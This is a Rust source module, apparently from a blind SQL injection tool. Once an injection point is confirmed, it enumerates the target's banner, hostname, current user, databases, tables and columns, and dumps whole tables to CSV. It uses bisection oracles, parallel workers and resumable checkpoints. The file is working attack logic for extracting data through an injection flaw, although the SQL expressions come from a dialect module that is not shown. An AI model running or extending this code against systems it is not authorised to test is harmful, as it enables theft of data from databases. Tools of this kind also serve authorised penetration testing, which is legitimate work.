//! High-level extraction operations over a confirmed vector.
//!
//! Every operation is a sequence of [`BisectionExtractor`] runs over the
//! metadata expressions of the fingerprinted backend. Progress is
//! checkpointed per key so an interrupted run picks up where it stopped.

use std::path::PathBuf;

use serde::Serialize;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use super::events::EngineEvent;
use crate::dialect::Dialect;
use crate::errors::BlindsightError;
use crate::extractor::{pool_size, row_indices, run_pool, BisectionExtractor, BisectionSettings, DialectOracle, ProgressSink};
use crate::models::{BaselineSummary, ExtractionResult, ExtractionTarget, Vector, Window};
use crate::oracle::{build_oracle, OracleContext};
use crate::session::{write_table_csv, SessionHandle, SessionLog};

/// Values returned by a fetch. `ok` is false when any of them is partial.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Fetched {
    pub ok: bool,
    pub values: Vec<String>,
    /// Where a single value contradicted the expected one (0 = length).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub violation: Option<usize>,
}

impl Fetched {
    fn single(result: ExtractionResult) -> Self {
        Self { ok: result.ok, values: vec![result.value], violation: result.violation }
    }

    /// The first value, if any.
    pub fn value(&self) -> Option<&str> {
        self.values.first().map(String::as_str)
    }
}

/// Rows of one table, in column order.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct TableDump {
    pub ok: bool,
    pub db: String,
    pub table: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
    /// CSV written for a completed dump.
    pub path: Option<PathBuf>,
}

/// Extraction API bound to one confirmed injection point.
pub struct TargetExtraction {
    ctx: OracleContext,
    vector: Vector,
    baseline: BaselineSummary,
    dialect: Dialect,
    session: SessionHandle,
    log: SessionLog,
    dir: PathBuf,
    cancel: CancellationToken,
    events: Option<mpsc::UnboundedSender<EngineEvent>>,
}

impl TargetExtraction {
    pub fn new(
        ctx: OracleContext,
        vector: Vector,
        baseline: BaselineSummary,
        dialect: Dialect,
        session: SessionHandle,
        dir: PathBuf,
    ) -> Self {
        Self {
            log: SessionLog::new(&dir),
            ctx,
            vector,
            baseline,
            dialect,
            session,
            dir,
            cancel: CancellationToken::new(),
            events: None,
        }
    }

    pub fn with_cancel_token(mut self, token: CancellationToken) -> Self {
        self.cancel = token;
        self
    }

    pub fn with_event_channel(mut self, tx: mpsc::UnboundedSender<EngineEvent>) -> Self {
        self.events = Some(tx);
        self
    }

    pub fn session_dir(&self) -> &PathBuf {
        &self.dir
    }

    pub fn dialect(&self) -> Dialect {
        self.dialect
    }

    fn emit(&self, event: EngineEvent) {
        if let Some(ref tx) = self.events {
            let _ = tx.send(event);
        }
    }

    fn window(&self) -> Window {
        Window::new(self.ctx.config.start, self.ctx.config.stop)
    }

    /// Each worker gets its own oracle so calibration state is never shared.
    fn inference(&self) -> DialectOracle {
        let oracle = build_oracle(self.ctx.clone(), &self.vector, &self.baseline);
        DialectOracle::new(oracle, self.dialect)
    }

    fn extractor(&self) -> BisectionExtractor {
        let settings = BisectionSettings::from_config(&self.ctx.config, self.vector.technique);
        let extractor = BisectionExtractor::new(settings).with_cancel_token(self.cancel.clone());
        match &self.events {
            Some(tx) => extractor.with_event_channel(tx.clone()),
            None => extractor,
        }
    }

    fn check_cancelled(&self) -> Result<(), BlindsightError> {
        if self.cancel.is_cancelled() {
            return Err(BlindsightError::Cancelled("extraction interrupted".into()));
        }
        Ok(())
    }

    /// A single value under the configured expectation, if any.
    fn lookup(&self, key: &str, expression: String) -> ExtractionTarget {
        let target = ExtractionTarget::new(key, expression);
        match &self.ctx.config.expect {
            Some(expected) => target.expecting(expected.clone()),
            None => target,
        }
    }

    /// An identifier bounded by the backend's name length limit.
    fn identifier(&self, key: &str, expression: String) -> ExtractionTarget {
        let target = ExtractionTarget::new(key, expression);
        match self.dialect.identifier_max_length() {
            Some(max) => target.with_max_length(max),
            None => target,
        }
    }

    async fn fetch(&self, target: ExtractionTarget) -> Result<ExtractionResult, BlindsightError> {
        self.check_cancelled()?;
        let key = target.key.as_str();
        let resume = self.session.progress(key)?;
        if let Some(done) = resume.as_ref().filter(|r| r.ok) {
            debug!(key, "Resumed value from session");
            return Ok(match &target.expect {
                Some(expected) => against_expected(done.clone(), expected),
                None => done.clone(),
            });
        }

        self.emit(EngineEvent::ExtractionStarted { key: key.to_string() });
        let mut inference = self.inference();
        let result = self
            .extractor()
            .extract(&mut inference, &target, resume, Some(&self.session as &dyn ProgressSink))
            .await?;
        self.check_cancelled()?;

        if result.ok {
            info!(key, value = %result.value, "Fetched");
            self.emit(EngineEvent::ValueFetched { key: key.to_string(), value: result.value.clone() });
            if let Err(e) = self.log.record(key, &result.value).await {
                warn!(error = %e, "Failed to write session log");
            }
        } else if let Some(position) = result.violation {
            warn!(key, position, "Value does not match the expected one");
            self.emit(EngineEvent::ExtractionFailed { key: key.to_string(), partial: result.value.clone() });
        } else {
            warn!(key, partial = %result.value, "Could not fully retrieve value");
            self.emit(EngineEvent::ExtractionFailed { key: key.to_string(), partial: result.value.clone() });
        }
        Ok(result)
    }

    /// Row count behind `prefix`, cached in the session as `<prefix>:count`.
    async fn fetch_count(&self, prefix: &str, expression: String) -> Result<Option<u64>, BlindsightError> {
        self.check_cancelled()?;
        let key = format!("{}:count", prefix);
        if let Some(n) = self.session.progress(&key)?.filter(|r| r.ok).and_then(|r| r.value.parse().ok()) {
            return Ok(Some(n));
        }
        let mut inference = self.inference();
        let count = self.extractor().count(&mut inference, &expression).await;
        self.check_cancelled()?;
        if let Some(n) = count {
            debug!(key = %key, count = n, "Count resolved");
            self.session.checkpoint(&key, &ExtractionResult::complete(n.to_string()))?;
        }
        Ok(count)
    }

    /// Fetch the identifier `item(i)` for every index under `window`,
    /// `pool_size` at a time.
    async fn enumerate<F>(&self, prefix: &str, count: String, window: Window, item: F) -> Result<Fetched, BlindsightError>
    where
        F: Fn(usize) -> String,
    {
        let Some(total) = self.fetch_count(prefix, count).await? else {
            return Ok(Fetched::default());
        };
        info!(prefix, total, "Entries found");
        let indices: Vec<usize> = row_indices(total, window).collect();
        let workers = pool_size(&self.ctx.config, self.vector.technique);

        let results = run_pool(indices, workers, |i| {
            let target = self.identifier(&format!("{}:{}", prefix, i), item(i));
            async move { self.fetch(target).await }
        })
        .await;

        let mut fetched = Fetched { ok: true, values: Vec::with_capacity(results.len()), violation: None };
        for result in results {
            let result = result?;
            fetched.ok &= result.ok;
            fetched.values.push(result.value);
        }
        Ok(fetched)
    }

    pub async fn banner(&self) -> Result<Fetched, BlindsightError> {
        self.fetch(self.lookup("banner", self.dialect.banner())).await.map(Fetched::single)
    }

    pub async fn hostname(&self) -> Result<Fetched, BlindsightError> {
        let target = self
            .lookup("hostname", self.dialect.hostname())
            .with_charset(self.dialect.hostname_charset());
        self.fetch(target).await.map(Fetched::single)
    }

    pub async fn current_user(&self) -> Result<Fetched, BlindsightError> {
        self.fetch(self.lookup("current_user", self.dialect.current_user())).await.map(Fetched::single)
    }

    pub async fn current_db(&self) -> Result<Fetched, BlindsightError> {
        let mut target = self.lookup("current_db", self.dialect.current_db());
        target.max_length = self.dialect.identifier_max_length();
        self.fetch(target).await.map(Fetched::single)
    }

    /// Database names, or just the current database when enumeration fails.
    pub async fn dbs(&self) -> Result<Fetched, BlindsightError> {
        let dialect = self.dialect;
        let all = self
            .enumerate("dbs", dialect.dbs_count(), self.window(), |i| dialect.db_at(i))
            .await?;
        if all.ok && !all.values.is_empty() {
            return Ok(all);
        }
        warn!("Database names could not be enumerated, falling back to the current database");
        self.fetch(self.identifier("current_db", self.dialect.current_db())).await.map(Fetched::single)
    }

    pub async fn tables(&self, db: &str) -> Result<Fetched, BlindsightError> {
        self.tables_in(db, self.window()).await
    }

    async fn tables_in(&self, db: &str, window: Window) -> Result<Fetched, BlindsightError> {
        let dialect = self.dialect;
        self.enumerate(&format!("tables:{}", db), dialect.tables_count(db), window, |i| {
            dialect.table_at(db, i)
        })
        .await
    }

    pub async fn columns(&self, db: &str, table: &str) -> Result<Fetched, BlindsightError> {
        self.columns_in(db, table, self.window()).await
    }

    async fn columns_in(&self, db: &str, table: &str, window: Window) -> Result<Fetched, BlindsightError> {
        let dialect = self.dialect;
        self.enumerate(
            &format!("columns:{}.{}", db, table),
            dialect.columns_count(db, table),
            window,
            |i| dialect.column_at(db, table, i),
        )
        .await
    }

    /// Rows of `table` restricted to `columns`, under the configured window.
    pub async fn records(&self, db: &str, table: &str, columns: &[String]) -> Result<TableDump, BlindsightError> {
        let prefix = format!("records:{}.{}", db, table);
        let mut dump = TableDump {
            db: db.to_string(),
            table: table.to_string(),
            columns: columns.to_vec(),
            ..Default::default()
        };
        let Some(total) = self.fetch_count(&prefix, self.dialect.records_count(db, table)).await? else {
            return Ok(dump);
        };
        info!(db, table, total, "Rows found");
        let indices: Vec<usize> = row_indices(total, self.window()).collect();
        let workers = pool_size(&self.ctx.config, self.vector.technique);

        let prefix = prefix.as_str();
        let rows = run_pool(indices, workers, |i| {
            async move {
                let mut row = Vec::with_capacity(columns.len());
                let mut ok = true;
                for column in columns {
                    let target = ExtractionTarget::new(
                        format!("{}:{}:{}", prefix, column, i),
                        self.dialect.record_at(db, table, column, i),
                    )
                    .with_charset(self.ctx.config.charset.clone());
                    let result = self.fetch(target).await?;
                    ok &= result.ok;
                    row.push(result.value);
                }
                Ok::<_, BlindsightError>((ok, row))
            }
        })
        .await;

        dump.ok = true;
        for row in rows {
            let (ok, values) = row?;
            dump.ok &= ok;
            dump.rows.push(values);
        }
        Ok(dump)
    }

    /// Columns, then rows, then a CSV file. A failed stage stops the chain.
    pub async fn dump_table(&self, db: &str, table: &str, columns: Option<&[String]>) -> Result<TableDump, BlindsightError> {
        let columns = match columns {
            Some(list) if !list.is_empty() => list.to_vec(),
            _ => {
                let listed = self.columns_in(db, table, Window::default()).await?;
                if !listed.ok || listed.values.is_empty() {
                    warn!(db, table, "Column names could not be retrieved, skipping table");
                    return Ok(TableDump {
                        db: db.to_string(),
                        table: table.to_string(),
                        columns: listed.values,
                        ..Default::default()
                    });
                }
                listed.values
            }
        };

        let mut dump = self.records(db, table, &columns).await?;
        if !dump.ok {
            warn!(db, table, rows = dump.rows.len(), "Table dump is incomplete");
            return Ok(dump);
        }
        let path = write_table_csv(&self.dir, db, table, &dump.columns, &dump.rows)?;
        info!(db, table, path = %path.display(), "Table dumped");
        dump.path = Some(path);
        Ok(dump)
    }

    /// Every table of `db`, stopping at the first incomplete one.
    pub async fn dump_database(&self, db: &str) -> Result<Vec<TableDump>, BlindsightError> {
        let tables = self.tables_in(db, Window::default()).await?;
        if !tables.ok {
            warn!(db, "Table names could not be retrieved");
            return Ok(Vec::new());
        }
        let mut dumps = Vec::with_capacity(tables.values.len());
        for table in &tables.values {
            let dump = self.dump_table(db, table, None).await?;
            let ok = dump.ok;
            dumps.push(dump);
            if !ok {
                break;
            }
        }
        Ok(dumps)
    }
}

/// Check an already resolved value against `expected` without querying.
fn against_expected(mut result: ExtractionResult, expected: &str) -> ExtractionResult {
    if result.value == expected {
        return result;
    }
    let position = if result.value.chars().count() != expected.chars().count() {
        0
    } else {
        result.value.chars().zip(expected.chars()).position(|(a, b)| a != b).map_or(0, |i| i + 1)
    };
    result.value = result.value.chars().take(position.saturating_sub(1)).collect();
    result.ok = false;
    result.violation = Some(position);
    result
}
